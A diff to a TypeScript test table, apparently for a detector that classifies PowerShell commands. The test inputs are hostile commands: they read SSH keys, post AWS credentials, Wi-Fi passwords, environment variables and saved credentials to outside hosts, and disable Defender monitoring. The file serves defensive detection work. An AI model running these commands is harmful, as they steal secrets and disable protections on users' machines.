@@ -23,6 +23,8 @@ const cases: [string, string, Record<string, unknown>[]][] = [
   ['Get-Content $env:USERPROFILE\\.ssh\\id_rsa', 'file-read', [{ path: '~/.ssh/id_rsa' }]],
   ['$k = Get-Content "$env:USERPROFILE\\.aws\\credentials"\nInvoke-RestMethod -Uri https://webhook.site/x -Method Post -Body $k', 'network', [{ host: 'webhook.site', method: 'POST', sendsData: true, dataSources: [{ kind: 'file', path: '~/.aws/credentials' }] }]],
   ['$r = ""\nforeach ($p in $names) { $r += netsh wlan show profile name="$p" key=clear | Out-String }\nInvoke-RestMethod -Uri https://x.test/r -Method Post -Body $r', 'network', [{ host: 'x.test', sendsData: true, dataSources: [{ kind: 'keychain' }] }]],
+  ['$inv = [ordered]@{\n  user = $env:USERNAME\n  vars = Get-ChildItem Env: | ForEach-Object { "$($_.Name)=$($_.Value)" }\n  saved = (cmdkey /list) -join "`n"\n}\n$body = $inv | ConvertTo-Json\nInvoke-RestMethod -Uri https://x.test/a -Method Post -Body $body', 'network', [{ host: 'x.test', sendsData: true, dataSources: [{ kind: 'keychain' }, { kind: 'env-all' }] }]],
+  ['$info = @{\n  host = $env:COMPUTERNAME\n  sdk = (dotnet --list-sdks) -join ","\n}\n$body = $info | ConvertTo-Json\nInvoke-RestMethod -Uri https://x.test/a -Method Post -Body $body', 'network', [{ host: 'x.test', sendsData: true, dataSources: undefined }]],
   ['$c = cmdkey /list\nInvoke-RestMethod -Uri https://x.test/c -Method Post -Body $c', 'network', [{ dataSources: [{ kind: 'keychain' }] }]],
   ['$r = netsh wlan show interfaces\nInvoke-RestMethod -Uri https://x.test/r -Method Post -Body $r', 'network', [{ host: 'x.test', sendsData: true, dataSources: undefined }]],
   ['Set-MpPreference -DisableRealtimeMonitoring $true', 'command', [{ name: 'Set-MpPreference', args: ['-DisableRealtimeMonitoring', '$true'] }]],
